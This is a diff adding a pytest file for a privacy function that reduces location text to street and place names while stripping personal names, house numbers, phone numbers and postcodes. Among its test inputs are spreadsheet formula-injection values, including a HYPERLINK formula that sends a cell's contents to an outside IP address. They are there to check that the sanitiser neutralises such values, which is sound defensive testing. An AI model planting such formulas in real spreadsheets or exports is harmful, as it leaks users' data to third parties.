@@ -1,0 +1,100 @@
+"""What stays of a place: streets, roads, public places and settlements by form or by list, and nothing else."""
+
+import pyarrow as pa
+import pytest
+
+from portal.privacy.grammar.columns import places
+from portal.privacy.grammar.lists import LocalLists
+from portal.privacy.grammar.place import place
+from portal.privacy.identifiers.kinds import IdentifierKind
+
+STAYS = (
+    """
+High Street|The Street|Elm Close|Upper George Street|St Oswalds Road|Earl Howe Street|Frank Whittle Close|Heol y Bont|A6 London Road|A47 Earl Shilton bypass
+M1 J24|A50 Jct 24a|Jct 21A M1|Junction of Uppingham Rd and Humberstone Rd|Footpath between Dieppe Way & Edendale Rd|Layby on A607 nr Frisby turn
+Abbey Park|Victoria Park|Spinney Hill Park|Watermead Country Park|Bus shelter o/s St Mary's Primary School, Burton Road|Robert Smyth Academy
+Rose and Crown PH, Coalville|Christ Church, Stafford Street|The Red Lion|Fox and Hounds|Tesco Express, Melton Road|Outside Tesco|Car park, Haymarket
+Ashby-de-la-Zouch|Barrow upon Soar railway station|Town centre|London Road, Oadby|BELGRAVE GATE, LEICESTER (O/S PREMIER INN)|melton road, syston
+Main St, Gaddesby (next door to the Cheney Arms)|50m north of Station Road|LE2|School bus, route 5A, nr Syston|Abbey Lane / Beaumont Leys Lane
+""".strip()
+    .replace("\n", "|")
+    .split("|")
+)
+BECOMES = [
+    ("Dunroamin, The Street", "The Street"),
+    ("Wisteria, Back Lane, Tugby", "Back Lane, Tugby"),
+    ("The Elms, Main Street, Tugby", "Main Street, Tugby"),
+    ("Rose Cottage, Mill Lane", "Mill Lane"),
+    ("12, 14 and 16 High Street", "High Street"),
+    ("next door to 15 Elm Close", "Elm Close"),
+    ("rear of 9-11 Vicarage Close", "Vicarage Close"),
+    ("outside no nine Elm Close", "Elm Close"),
+    ("Flat 2, 17 Brook Street, Syston LE7 2QR", "Brook Street, Syston LE7"),
+    ("corner shop kept by the Patels", ""),
+    ("Priyanka Cropthorne, Mill Road", "Mill Road"),
+    ("Priyanka Cropthorne Mill Road", "Mill Road"),
+    ("Zabihullah Noorzai High Street", "High Street"),
+    ("h/a of Sivakumar Thirunavukkarasu, 14 Elm Close, Oadby LE2 3AB", "Elm Close, Oadby LE2"),
+    ("the vicar's wife, Church Lane", "Church Lane"),
+    ("her son, Mill Road", "Mill Road"),
+    ("Church Lane (Sivakumar's)", "Church Lane"),
+    ("Mill Road - victim Oluwaseun Adebayo", "Mill Road"),
+    ("High Street. Zofia rang", "High Street"),
+    ("KHAN, Imran, 12 Melton Road", "Melton Road"),
+    ("Preston, Kwame, Mill Road", "Mill Road"),
+    ("Gholamreza Ahmadzai outside Tesco", "outside Tesco"),
+    ("Siôn ap Rhys, Heol y Bont", "Heol y Bont"),
+    ("Abdi's flat above the chip shop, London Road", "above the chip shop, London Road"),
+    ("Fatoumata Pennistone", ""),
+    ("Paul Smith", ""),
+    ("see Wrenfield", ""),
+    ("S M I T H", ""),
+    ("PC 4417 High Street", "High Street"),
+    ("07700 900417 Mill Lane", "Mill Lane"),
+    ("52°38'10\"N 1°08'01\"W", ""),
+    ("9C4WJV9P+XQ", ""),
+    ('=HYPERLINK("http://198.51.100.9/?x="&A2,"Christ Church, Stafford Street")', "Christ Church, Stafford Street"),
+    ("+Rose and Crown PH, Coalville", "Rose and Crown PH, Coalville"),
+    ("@SUM(A1:A9)", ""),
+]
+
+
+@pytest.mark.clause("s6.no-identifiers")
+@pytest.mark.parametrize("text", STAYS)
+def test_a_place_by_form_or_list_stays_whole(text):
+    assert place(text).text == text
+
+
+@pytest.mark.clause("s6.no-identifiers")
+@pytest.mark.parametrize(("sent", "kept"), BECOMES)
+def test_what_is_no_place_goes_and_the_street_stays(sent, kept):
+    assert place(sent).text == kept
+    assert place(kept).text == kept
+
+
+def test_a_partnerships_own_places_stay_and_others_do_not():
+    own = LocalLists.of({"places": ["Dunroamin Club"], "streets": ["Priyanka Cropthorne Way"]})
+    assert place("Dunroamin Club, Priyanka Cropthorne Way", own).text == "Dunroamin Club, Priyanka Cropthorne Way"
+    assert place("Dunroamin Club, Priyanka Cropthorne Way").text == ""
+
+
+def test_what_went_is_told_by_kind():
+    assert place("12 High Street").gone == {IdentifierKind.ADDRESS}
+    assert place("Mrs Noorzai, High Street").gone == {IdentifierKind.NAME}
+    assert place("Wisteria, High Street").gone == {IdentifierKind.UNLISTED}
+    assert place("High Street LE7 2QR").gone == {IdentifierKind.POSTCODE}
+
+
+def test_a_whole_column_is_judged_as_its_cells_are():
+    texts = [
+        *STAYS,
+        *(sent for sent, _ in BECOMES),
+        "12 Zabih Road, Oadby",
+        "4 Oak Tree Close, Wigston LE18 1AB",
+        "9 Her Son Road",
+        "3 Flat Lane",
+        "",
+        None,
+    ]
+    column = places(pa.array(texts, pa.string())).column.to_pylist()
+    assert column == [place(text).text or None if text else None for text in texts]
